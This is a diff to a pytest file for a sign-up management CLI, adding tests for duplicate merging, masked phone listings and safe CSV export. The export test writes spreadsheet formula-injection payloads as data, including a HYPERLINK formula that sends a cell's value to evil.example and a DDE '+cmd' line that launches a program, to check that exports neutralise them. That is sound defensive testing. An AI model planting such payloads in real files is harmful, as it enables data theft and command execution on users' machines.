@@ -73,7 +73,8 @@ def test_add_list_show_export_forget(runner: CliRunner, project: Path, tmp_path:
     assert done.exit_code == 0, done.output
     assert stat.S_IMODE(out.stat().st_mode) == 0o600
     exported = list(csv.DictReader(out.open(encoding="utf-8")))
-    assert {r["phone"] for r in exported} == {"+7 912 345-67-89", "+7 912 000-00-02"}
+    # "+7 ..." would be a formula to Excel: 8 912 ... stays readable text.
+    assert {r["phone"] for r in exported} == {"8 912 345-67-89", "8 912 000-00-02"}
 
     forgot = run(runner, project, "signups", "forget", "1")
     assert forgot.exit_code == 0 and "name" in forgot.output and "phone" in forgot.output
@@ -131,3 +132,117 @@ def test_a_poster_code_entered_offline_counts_for_its_campaign_and_placement(
     [row] = [r for r in json.loads(stats.output)["funnel"] if r["completed"]]
     assert (row["campaign"], row["placement"], row["completed"]) == (
         "mentoring", "Пенсионный фонд, Миасс, ул. Ленина, 5", 1)
+
+
+def _bot_sign_up(project: Path, store_url: str, person: str, phone: str, name: str,
+                 interests: str = "Наставничество") -> None:
+    """A person signing up through a bot, as the service's desk takes them."""
+    from outreach.channels import Incoming
+    from outreach.config import load_config
+    from outreach.signups.desk import YES, StoreDesk
+
+    store = open_store(store_url)
+    desk = StoreDesk(store, load_config(project))
+    for message in (Incoming(person=person, started=True), Incoming(person=person, text=name),
+                    Incoming(person=person, choice="Миасс"), Incoming(person=person, text=phone),
+                    Incoming(person=person, text=interests), Incoming(person=person, choice=YES)):
+        desk.handle("tg", message)
+    store.dispose()
+
+
+def test_duplicates_are_listed_then_merged_or_kept_apart(runner: CliRunner, project: Path,
+                                                         store_url: str) -> None:
+    run(runner, project, "signups", "add", "--name", "Мария Иванова", "--phone",
+        "+7 912 345-67-89", "--municipality", "Миасс")
+    _bot_sign_up(project, store_url, "666", "89123456789", "Пётр Чужой")
+    added = run(runner, project, "signups", "add", "--name", "Иван Петров", "--phone",
+                "8 351 200-00-01")
+    wife = run(runner, project, "signups", "add", "--name", "Анна Петрова", "--phone",
+               "8 351 200-00-01")
+    assert wife.exit_code == 0 and "same phone is on sign-up 3" in wife.output
+    assert added.exit_code == 0
+
+    listed = run(runner, project, "signups", "list", "--duplicates", "--format", "json")
+    assert listed.exit_code == 0, listed.output
+    groups = [(r["group"], r["id"], r["phone_from"]) for r in json.loads(listed.output)]
+    assert groups == [(1, 1, "coordinator"), (1, 2, "typed"), (2, 3, "coordinator"),
+                      (2, 4, "coordinator")]
+    table = run(runner, project, "signups", "list", "--duplicates")
+    assert "+7 912 ***-**-89" in table.output and "345-67-89" not in table.output
+    shown = run(runner, project, "signups", "show", "1")
+    assert [line.split()[-1] for line in shown.output.splitlines()
+            if line.startswith("same phone as")] == ["2"]
+
+    apart = run(runner, project, "signups", "keep-apart", "3", "4")
+    assert apart.exit_code == 0, apart.output
+    merged = run(runner, project, "signups", "merge", "1", "2")
+    assert merged.exit_code == 0 and "Merged sign-up 2 into 1" in merged.output
+    assert "No sign-ups share a phone." in run(runner, project, "signups", "list",
+                                                "--duplicates").output
+    again = run(runner, project, "signups", "merge", "1", "2")
+    assert again.exit_code == 1 and "sign-up 2 is merged" in again.output
+    both = run(runner, project, "signups", "list", "--duplicates", "--unfinished")
+    assert both.exit_code == 2 and "one of them" in both.output
+
+
+def test_unfinished_sign_ups_are_listed_without_what_was_said(runner: CliRunner, project: Path,
+                                                              store_url: str) -> None:
+    from outreach.channels import Incoming
+    from outreach.config import load_config
+    from outreach.signups.desk import StoreDesk
+
+    store = open_store(store_url)
+    desk = StoreDesk(store, load_config(project))
+    for message in (Incoming(person="9", started=True), Incoming(person="9", text="Иван Сидоров"),
+                    Incoming(person="9", choice="Миасс"), Incoming(person="9", text="89123450000")):
+        desk.handle("tg", message)
+    store.dispose()
+    for fmt in ("table", "json", "csv"):
+        listed = run(runner, project, "signups", "list", "--unfinished", "--format", fmt)
+        assert listed.exit_code == 0, listed.output
+        assert "interests" in listed.output and "erased_after" in listed.output.lower()
+        assert "Иван" not in listed.output and "345" not in listed.output
+        assert "Миасс" not in listed.output
+    listed = run(runner, project, "signups", "list").output
+    assert "started" in listed and "Иван" not in listed and "***" not in listed
+
+
+def test_exports_never_carry_a_formula(runner: CliRunner, project: Path, store_url: str,
+                                       tmp_path: Path) -> None:
+    """Cells a coordinator's Excel would run are written as text; phones stay readable."""
+    _bot_sign_up(project, store_url, "7", "89120000007", "Анна",
+                 interests='=HYPERLINK("http://evil.example/?"&A1,"Подробнее")')
+    forms = tmp_path / "forms.csv"
+    forms.write_text("name;phone;municipality;interests;code\n"
+                     "Ольга;89120000001;Миасс;+cmd|' /C calc'!A0;\n"
+                     "Пётр;89120000002;@SUM(1+1);-2+3;\n", encoding="utf-8")
+    imported = run(runner, project, "signups", "import", str(forms), "--consent-on-paper",
+                   "--unattributed")
+    assert imported.exit_code == 0, imported.output
+    out = tmp_path / "export.csv"
+    done = run(runner, project, "signups", "export", str(out),
+               "--i-know-this-contains-personal-data")
+    assert done.exit_code == 0, done.output
+    exported = {r["name"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
+    assert exported["Анна"]["interests"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,' \
+        '"Подробнее")'
+    assert exported["Ольга"]["interests"] == "'+cmd|' /C calc'!A0"
+    assert (exported["Пётр"]["municipality"], exported["Пётр"]["interests"]) == (
+        "'@SUM(1+1)", "'-2+3")
+    assert {r["phone"] for r in exported.values()} == {
+        "8 912 000-00-07", "8 912 000-00-01", "8 912 000-00-02"}
+    for row in exported.values():  # no cell of any column starts a formula
+        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
+    listed = run(runner, project, "signups", "list", "--format", "csv")
+    assert "'=HYPERLINK" not in listed.output  # the list shows no interests
+    assert "8 912 ***-**-07" in listed.output and "+7" not in listed.output
+    # What the bot and the import stored is the text as given, never altered.
+    store = open_store(store_url)
+    with store.session() as s:
+        from sqlmodel import select
+
+        from outreach.models import SignUp
+
+        stored = {r.name: r.interests for r in s.exec(select(SignUp))}
+    store.dispose()
+    assert stored["Ольга"] == "+cmd|' /C calc'!A0" and stored["Пётр"] == "-2+3"
